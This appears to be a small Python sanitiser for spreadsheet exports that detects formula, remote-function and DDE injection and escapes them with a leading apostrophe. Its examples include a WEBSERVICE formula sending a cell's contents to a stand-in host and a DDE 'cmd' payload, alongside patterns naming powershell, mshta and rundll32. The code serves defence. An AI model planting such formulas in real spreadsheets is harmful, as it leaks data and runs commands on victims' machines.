import re

LEADING = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?\d+([.,]\d+)?%?$")
REMOTE = re.compile(r"\b(WEBSERVICE|IMPORTDATA|IMPORTXML|IMPORTHTML|IMPORTRANGE|IMAGE|HYPERLINK)\s*\(", re.I)
DDE = re.compile(r"^[=+@-]?\s*(cmd|powershell|mshta|rundll32)\s*\|", re.I)

EXAMPLES = {
    "=WEBSERVICE(\"https://collect.example/?d=\"&A1)": "remote",
    "=cmd|' /C calc'!A0": "dde",
    "@SUM(1,2)": "formula",
    "-12,50": "number",
}


def kind(value: object) -> str:
    if not isinstance(value, str) or not value:
        return "plain"
    if NUMBER.match(value):
        return "number"
    if DDE.search(value):
        return "dde"
    if REMOTE.search(value):
        return "remote"
    return "formula" if value.startswith(LEADING) else "plain"


def neutral(value: object) -> object:
    """A leading apostrophe makes spreadsheet programs treat the cell as text."""
    return "'" + value if kind(value) in ("dde", "remote", "formula") else value
